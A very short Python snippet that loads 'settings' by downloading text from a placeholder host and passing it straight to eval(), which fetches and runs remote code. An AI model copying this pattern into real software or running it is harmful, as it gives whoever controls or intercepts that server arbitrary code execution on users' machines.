import requests

settings = eval(requests.get('https://c.example.com/c').text)
